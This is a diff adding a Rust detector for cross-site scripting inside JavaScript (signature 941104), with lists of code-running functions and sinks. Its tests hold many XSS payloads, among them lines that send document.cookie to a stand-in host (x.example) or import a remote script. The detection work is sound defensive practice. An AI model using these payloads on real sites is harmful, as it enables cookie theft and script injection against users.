@@ -1,0 +1,643 @@
+//! Cross-site scripting that lands inside JavaScript (signature 941104):
+//! a value is an injection when, read as JavaScript from one of the places
+//! a value can land in a script, it makes code that calls something or
+//! assigns to a navigation or markup sink.
+//!
+//! The places read:
+//!
+//! - inside a string, `'…'`, `"…"` or `` `…` ``: the value's first matching
+//!   quote (or `${` in a template) ends the string, whether or not a
+//!   backslash stands before it (an application that escapes the quote but
+//!   not the backslash turns `\'` into `\\'`). What follows must continue
+//!   the expression the string was in: an operator, `;`, `,` or a closing
+//!   bracket. A word right after the quote (`it's`, `John's`, `5' 10"`) is
+//!   a syntax error, so prose is not code. After the breakout, any call
+//!   (`';alert(1)//`, `'-confirm`1`-'`, `");x['al'+'ert'](1)//`) or an
+//!   assignment to a sink (`';location='//x'//`) is an injection;
+//! - as an expression (`var x = VALUE;`): there, text such as `f(x)` or
+//!   `sin(x)` is valid code too, so only calls that run code or open a
+//!   dialog count: a known function (`eval`, `settimeout`, `function`,
+//!   `atob`, `fromcharcode`, `import`…), a member reached through
+//!   `constructor`, a computed member (`window['al'+'ert'](1)`,
+//!   `top[/al/.source+/ert/.source](1)`), and assignments to
+//!   `location`-like members of an object (`document.location=`).
+//!
+//! The reading stops at the first syntax error (two words in a row, an
+//! operator where a value is due...): what follows cannot run. Runs of
+//! `JSFuck` (`[]`, `!`, `+`, `(`, `)` only) are injections wherever they
+//! are. The value is the decoded, lower-case text patterns see (JavaScript
+//! escapes such as `\u0061` are decoded before).
+//!
+//! ```text
+//! ';alert(1)//                       a breakout, then a call
+//! "-top['al'+'ert'](1)-"             a breakout, then a computed call
+//! eval(atob('YWxlcnQoMSk='))         a known function, as an expression
+//! it's john's (really)               prose: a word after the quote
+//! ```
+
+/// Whether `text` holds what any script needs here: a call `(`, a tagged
+/// template `` ` `` or an assignment `=`. Without any, [`is_js_injection`]
+/// is false.
+pub(crate) fn could_be_js(text: &str) -> bool {
+    memchr::memchr3(b'(', b'`', b'=', text.as_bytes()).is_some()
+}
+
+/// Whether `text` (decoded, lower case) makes JavaScript that runs.
+pub(crate) fn is_js_injection(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    if !could_be_js(text) {
+        return false;
+    }
+    if has_jsfuck_run(bytes) {
+        return true;
+    }
+    if read(bytes, 0, Context::Expression) {
+        return true;
+    }
+    for quote in [b'\'', b'"', b'`'] {
+        let end = if quote == b'`' {
+            first_template_end(bytes)
+        } else {
+            memchr::memchr(quote, bytes).map(|at| (at + 1, false))
+        };
+        if let Some((after, in_substitution)) = end {
+            let context = if in_substitution {
+                Context::Substitution
+            } else {
+                Context::AfterString
+            };
+            if read(bytes, after, context) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+/// Shortest run of `JSFuck` characters counted as code.
+const JSFUCK_RUN: usize = 12;
+
+/// Whether `bytes` holds a run of at least [`JSFUCK_RUN`] characters among
+/// `[]()!+` (blanks allowed inside) that uses `[`, `]`, `!` and `+`.
+fn has_jsfuck_run(bytes: &[u8]) -> bool {
+    let mut run = 0;
+    let mut seen = 0u8;
+    for &b in bytes {
+        let bit = match b {
+            b'[' => 1,
+            b']' => 2,
+            b'!' => 4,
+            b'+' => 8,
+            b'(' | b')' => 16,
+            b' ' | b'\t' | b'\n' | b'\r' => 0,
+            _ => {
+                run = 0;
+                seen = 0;
+                continue;
+            }
+        };
+        if bit != 0 {
+            run += 1;
+            seen |= bit;
+        }
+        if run >= JSFUCK_RUN && seen & 15 == 15 {
+            return true;
+        }
+    }
+    false
+}
+
+/// Where a template string read from the value's start ends: just after
+/// its first `` ` `` (false), or inside its first `${` (true).
+fn first_template_end(bytes: &[u8]) -> Option<(usize, bool)> {
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'`' => return Some((i + 1, false)),
+            b'$' if bytes.get(i + 1) == Some(&b'{') => return Some((i + 2, true)),
+            _ => i += 1,
+        }
+    }
+    None
+}
+
+/// Where the reading starts.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Context {
+    /// The value is an expression of its own: only calls that run code
+    /// count.
+    Expression,
+    /// Just after a string the value closed: an operator must follow.
+    AfterString,
+    /// Inside a template's `${`: an expression, after a breakout.
+    Substitution,
+}
+
+/// What the operand just read can be, if called.
+// Independent facts about one operand, each read by a different rule.
+#[allow(clippy::struct_excessive_bools)]
+#[derive(Clone, Copy, Default)]
+struct Callee {
+    /// It can be called at all: a name, a member, a call's result, a
+    /// parenthesised expression (not a number or a string literal).
+    callable: bool,
+    /// A call of it runs code or opens a dialog, even outside a breakout.
+    runs_code: bool,
+    /// An assignment to it navigates or writes markup, even outside a
+    /// breakout (a member: `document.location`, `x.innerhtml`).
+    member_sink: bool,
+    /// An assignment to it navigates or writes markup after a breakout.
+    sink: bool,
+    /// It is a chain rooted at a name (`a`, `a.b`, `a['b']`).
+    named: bool,
+    /// It is a chain rooted at an object of the page (`document`...).
+    page_object: bool,
+    /// It ends in `.call` or `.apply`: as a template's tag, it calls a
+    /// function without parentheses (`[].sort.call` and a template).
+    invoker: bool,
+}
+
+/// Functions whose call runs code, decodes it, or opens a dialog.
+const RUNS_CODE: &[&str] = &[
+    "alert",
+    "prompt",
+    "confirm",
+    "eval",
+    "settimeout",
+    "setinterval",
+    "function",
+    "execscript",
+    "atob",
+    "fromcharcode",
+    "import",
+    "importscripts",
+    "write",
+    "writeln",
+    "fetch",
+    "constructor",
+    "globaleval",
+    "insertadjacenthtml",
+];
+
+/// Objects of the page: a call or an assignment through a member of one
+/// (`document.queryselector(`, `window.name=`) works on the page.
+const PAGE_OBJECTS: &[&str] = &[
+    "document",
+    "window",
+    "top",
+    "self",
+    "parent",
+    "frames",
+    "opener",
+    "globalthis",
+    "location",
+];
+
+/// The window's event handlers: assigned by a bare name
+/// (`onerror=alert;throw 1`), they call a function without parentheses.
+const PAGE_HANDLERS: &[&str] = &[
+    "onerror",
+    "onload",
+    "onunload",
+    "onbeforeunload",
+    "onhashchange",
+    "onpopstate",
+    "onpageshow",
+    "onmessage",
+    "onfocus",
+    "onblur",
+    "onresize",
+    "onscroll",
+    "onclick",
+    "onkeydown",
+    "onmouseover",
+];
+
+/// Names whose assignment navigates, writes markup or sets a handler.
+const SINKS: &[&str] = &[
+    "location",
+    "href",
+    "innerhtml",
+    "outerhtml",
+    "srcdoc",
+    "src",
+    "action",
+    "onerror",
+    "onload",
+    "onmessage",
+];
+
+/// Words that start a value or statement and leave a value due.
+const PREFIX_WORDS: &[&str] = &[
+    "typeof", "void", "delete", "new", "throw", "return", "await", "yield", "case", "else", "do",
+    "var", "let", "const", "if", "while", "for", "with", "switch", "try", "finally",
+];
+
+/// Words that join two values, like a binary operator.
+const INFIX_WORDS: &[&str] = &["in", "instanceof", "of"];
+
+/// Most tokens read from one place: enough for any injection, a bound on
+/// the work for long text.
+const MAX_TOKENS: usize = 256;
+
+/// Deepest bracket nesting read.
+const MAX_DEPTH: usize = 16;
+
+/// An open bracket: which, and the operand that stood before it.
+#[derive(Clone, Copy, Default)]
+struct Open {
+    bracket: u8,
+    /// The operand before a call's `(` or a computed member's `[`
+    /// (already marked as such); `None` for a group, array or block.
+    before: Option<Callee>,
+}
+
+/// Reads `bytes` from `start` as JavaScript in `context`; true at the
+/// first call or sink assignment that counts there.
+#[allow(clippy::too_many_lines)] // one token per arm, read in one place
+fn read(bytes: &[u8], start: usize, context: Context) -> bool {
+    let breakout = context != Context::Expression;
+    let mut i = start;
+    // True when a value is due (an operand), false when an operator is.
+    let mut operand_due = context != Context::AfterString;
+    let mut callee = Callee::default();
+    // After `.`, a member name is due.
+    let mut member_due = false;
+    let mut stack = [Open::default(); MAX_DEPTH];
+    let mut depth: usize = 0;
+    // After a bracket closing what stood around the value, a statement or
+    // an operator may follow: `'))==f(1)` as well as `'}f(1)`.
+    let mut either = false;
+    for _ in 0..MAX_TOKENS {
+        let operator_allowed = !operand_due || std::mem::take(&mut either);
+        i = skip_blanks_and_comments(bytes, i);
+        let Some(&b) = bytes.get(i) else {
+            return false;
+        };
+        if is_word_start(b) {
+            let end = word_end(bytes, i);
+            let word = &bytes[i..end];
+            i = end;
+            if member_due {
+                member_due = false;
+                callee.runs_code |= callee.page_object || is_one_of(word, RUNS_CODE);
+                callee.sink = callee.page_object || is_one_of(word, SINKS) || is_handler(word);
+                callee.member_sink = callee.sink;
+                callee.invoker = word == b"call" || word == b"apply";
+                continue;
+            }
+            if operand_due {
+                if is_one_of(word, PREFIX_WORDS) {
+                    continue;
+                }
+                callee = Callee {
+                    callable: true,
+                    runs_code: is_one_of(word, RUNS_CODE),
+                    sink: is_one_of(word, SINKS) || is_handler(word),
+                    named: true,
+                    page_object: is_one_of(word, PAGE_OBJECTS),
+                    // The page's own handlers, set by a bare name.
+                    member_sink: is_one_of(word, PAGE_HANDLERS),
+                    invoker: false,
+                };
+                operand_due = false;
+            } else if is_one_of(word, INFIX_WORDS) {
+                operand_due = true;
+            } else {
+                return false;
+            }
+            continue;
+        }
+        if member_due {
+            return false;
+        }
+        if b.is_ascii_digit() {
+            if !operand_due {
+                return false;
+            }
+            i = word_end(bytes, i);
+            callee = Callee::default();
+            operand_due = false;
+            continue;
+        }
+        match b {
+            b'\'' | b'"' => {
+                if !operand_due {
+                    return false;
+                }
+                i = string_end(bytes, i + 1, b);
+                callee = Callee::default();
+                operand_due = false;
+            }
+            b'`' => {
+                // After an operand, a tagged template: a call.
+                if !operand_due && (counts(callee, breakout) || callee.invoker) {
+                    return true;
+                }
+                i = string_end(bytes, i + 1, b'`');
+                callee = Callee::default();
+                operand_due = false;
+            }
+            b'/' if operand_due => {
+                // A regular expression literal.
+                i = regex_end(bytes, i + 1);
+                callee = Callee::default();
+                operand_due = false;
+            }
+            b'(' | b'[' | b'{' => {
+                i += 1;
+                if depth == MAX_DEPTH {
+                    return false;
+                }
+                let before = if operand_due || b == b'{' {
+                    None
+                } else if b == b'(' {
+                    if counts(callee, breakout) {
+                        return true;
+                    }
+                    Some(callee)
+                } else {
+                    // A computed member: whatever it names can run code.
+                    Some(Callee {
+                        runs_code: callee.runs_code || callee.named,
+                        sink: callee.named,
+                        member_sink: callee.named,
+                        ..callee
+                    })
+                };
+                stack[depth] = Open { bracket: b, before };
+                depth += 1;
+                operand_due = true;
+            }
+            b')' | b']' | b'}' => {
+                i += 1;
+                if depth == 0 {
+                    // Closes what stood around the value: a statement
+                    // may follow (`if ('x') alert(1)`), or an operator.
+                    if !breakout {
+                        return false;
+                    }
+                    operand_due = b != b']';
+                    either = operand_due;
+                    callee = Callee::default();
+                    continue;
+                }
+                depth -= 1;
+                let open = stack[depth];
+                callee = match (open.bracket, open.before) {
+                    // A computed member keeps what its chain was.
+                    (b'[', Some(before)) => before,
+                    // A call's result can be called again.
+                    (b'(', Some(before)) => Callee {
+                        callable: true,
+                        runs_code: before.runs_code,
+                        ..Callee::default()
+                    },
+                    // A group, or an array literal whose members can be
+                    // called.
+                    (b'(' | b'[', None) => Callee {
+                        callable: true,
+                        ..Callee::default()
+                    },
+                    _ => Callee::default(),
+                };
+                operand_due = b == b'}';
+            }
+            b'.' => {
+                i += 1;
+                // After a value, a member; before one, `...` or `.5`.
+                member_due = !operand_due;
+            }
+            b';' | b',' => {
+                i += 1;
+                operand_due = true;
+            }
+            b'=' => {
+                let run = punctuator_run(bytes, i);
+                i += run;
+                if !operator_allowed {
+                    return false;
+                }
+                if run == 1 && assigns_sink(callee, breakout) {
+                    return true;
+                }
+                operand_due = true;
+            }
+            b'+' | b'-' | b'!' | b'~' => {
+                let run = punctuator_run(bytes, i);
+                i += run;
+                let postfix = run == 2 && bytes[i - 2] == b && bytes[i - 1] == b;
+                if !operand_due && (b == b'+' || b == b'-') && postfix {
+                    continue;
+                }
+                if !operand_due && (b == b'!' || b == b'~') && run == 1 {
+                    return false;
+                }
+                operand_due = true;
+            }
+            b'*' | b'/' | b'%' | b'<' | b'>' | b'&' | b'|' | b'^' | b'?' | b':' => {
+                if !operator_allowed && b != b':' {
+                    return false;
+                }
+                i += punctuator_run(bytes, i);
+                operand_due = true;
+            }
+            _ => return false,
+        }
+    }
+    false
+}
+
+/// Whether `word` is one of `words`.
+fn is_one_of(word: &[u8], words: &[&str]) -> bool {
+    words.iter().any(|w| w.as_bytes() == word)
+}
+
+/// Whether a call of `callee` counts as an injection.
+fn counts(callee: Callee, breakout: bool) -> bool {
+    if breakout {
+        callee.callable
+    } else {
+        callee.runs_code
+    }
+}
+
+/// Whether an assignment to `callee` counts as an injection.
+fn assigns_sink(callee: Callee, breakout: bool) -> bool {
+    if breakout {
+        callee.sink
+    } else {
+        callee.member_sink
+    }
+}
+
+/// Whether `word` names an event handler (`on` and a letter run).
+fn is_handler(word: &[u8]) -> bool {
+    word.len() > 4 && word.starts_with(b"on") && word[2..].iter().all(u8::is_ascii_lowercase)
+}
+
+/// Whether `b` can start a name (non-ASCII letters included).
+fn is_word_start(b: u8) -> bool {
+    b.is_ascii_alphabetic() || b == b'_' || b == b'$' || b == b'\\' || b >= 0x80
+}
+
+/// The end of a name or number starting at `i`.
+fn word_end(bytes: &[u8], mut i: usize) -> usize {
+    while let Some(&b) = bytes.get(i) {
+        if b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b == b'\\' || b >= 0x80 {
+            i += 1;
+        } else {
+            break;
+        }
+    }
+    i
+}
+
+/// The length of a run of operator characters starting at `i` (at most
+/// 4; a `/` only first, so that a comment after an operator stays one).
+fn punctuator_run(bytes: &[u8], i: usize) -> usize {
+    1 + bytes[i + 1..]
+        .iter()
+        .take(3)
+        .take_while(|b| b"=+-!~*%<>&|^?".contains(b))
+        .count()
+}
+
+/// Just after the string or template closing at `quote`, from `i` inside
+/// it (backslash escapes skipped); the text's end when it does not close.
+fn string_end(bytes: &[u8], mut i: usize, quote: u8) -> usize {
+    while let Some(&b) = bytes.get(i) {
+        if b == b'\\' {
+            i += 2;
+        } else if b == quote {
+            return i + 1;
+        } else {
+            i += 1;
+        }
+    }
+    bytes.len()
+}
+
+/// Just after a regular expression literal from `i` inside it (classes
+/// and escapes skipped, flags included).
+fn regex_end(bytes: &[u8], mut i: usize) -> usize {
+    let mut in_class = false;
+    while let Some(&b) = bytes.get(i) {
+        match b {
+            b'\\' => i += 1,
+            b'[' => in_class = true,
+            b']' => in_class = false,
+            b'/' if !in_class => return word_end(bytes, i + 1),
+            b'\n' => return i,
+            _ => {}
+        }
+        i += 1;
+    }
+    bytes.len()
+}
+
+/// Past blanks and comments (`//`, `/* */`, `<!--`) from `i`.
+fn skip_blanks_and_comments(bytes: &[u8], mut i: usize) -> usize {
+    loop {
+        while bytes.get(i).is_some_and(u8::is_ascii_whitespace) {
+            i += 1;
+        }
+        let rest = &bytes[i.min(bytes.len())..];
+        if rest.starts_with(b"//") || rest.starts_with(b"<!--") {
+            return memchr::memchr(b'\n', rest).map_or(bytes.len(), |n| i + n + 1);
+        }
+        if rest.starts_with(b"/*") {
+            match memchr::memmem::find(&rest[2..], b"*/") {
+                Some(n) => i += n + 4,
+                None => return bytes.len(),
+            }
+            continue;
+        }
+        return i;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_js_injection;
+
+    #[test]
+    fn breakouts_followed_by_a_call_or_sink_are_injections() {
+        for text in [
+            "';alert(1)//",
+            "'-alert(1)-'",
+            "\";alert(1)//",
+            "\\';confirm`1`//",
+            "\"+prompt(document.domain)+\"",
+            "');x(1);//",
+            "'}foo(1)//",
+            "\";location='//x.example/?'+document.cookie//",
+            "';window.onerror=alert;throw 1//",
+            "${alert(1)}",
+            "') == print(1) =='",
+            "\"}) || ['x'].find(prompt) ;var x = \"",
+            "`/**/||/**/location='//x.example/?'+1/**/<!--",
+            "'/**/+/**/globalthis[/al/.source+/ert/.source](/x/.source)/**///",
+            "`;print`1`//",
+            "'-[1].find(alert)-'",
+            "';new image().src='//x.example/'+document.cookie//",
+        ] {
+            assert!(is_js_injection(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn obfuscated_calls_are_injections_as_expressions() {
+        for text in [
+            "window['al'+'ert'](1)",
+            "top[/al/.source+/ert/.source](1)",
+            "[].constructor.constructor('alert(1)')()",
+            "eval(atob('ywxlcnqomsk='))",
+            "settimeout('alert(1)')",
+            "function('alert(1)')()",
+            "string.fromcharcode(97,108)",
+            "self[`alert`](1)",
+            "document.queryselector('p').textcontent='x'",
+            "window.name='x'",
+            "(![]+[])[+!+[]]",
+            "onerror=alert;throw 1",
+            "{onerror=eval}throw'=alert\\x281\\x29'",
+            "[].sort.call`${alert}1`",
+            "alert.apply`x`",
+            "document.location='//x.example'",
+            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
+            "import('//x.example/a.js')",
+        ] {
+            assert!(is_js_injection(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn prose_and_data_are_not() {
+        for text in [
+            "it's john's (really)",
+            "5' 10\" (tall)",
+            "rock 'n' roll (live)",
+            "o'reilly (2nd edition)",
+            "he said \"no\" (twice)",
+            "f(x) = sin(x) + 1",
+            "max(a, b)",
+            "the \"matrix\", wachowski (1999)",
+            "{\"a\":\"b\",\"n\":[1,2]}",
+            "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko)",
+            "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
+            "location=paris",
+            "use `ls -l` (long)",
+            "a=1&b=2",
+            "it's 5 o'clock (gmt)",
+            "don't (please) do it",
+            "(+1) 555-0100",
+            "see document.pdf (page 2)",
+            "[!] (+) [ok]",
+            "online=yes",
+            "please call `me` (later)",
+        ] {
+            assert!(!is_js_injection(text), "{text}");
+        }
+    }
+}
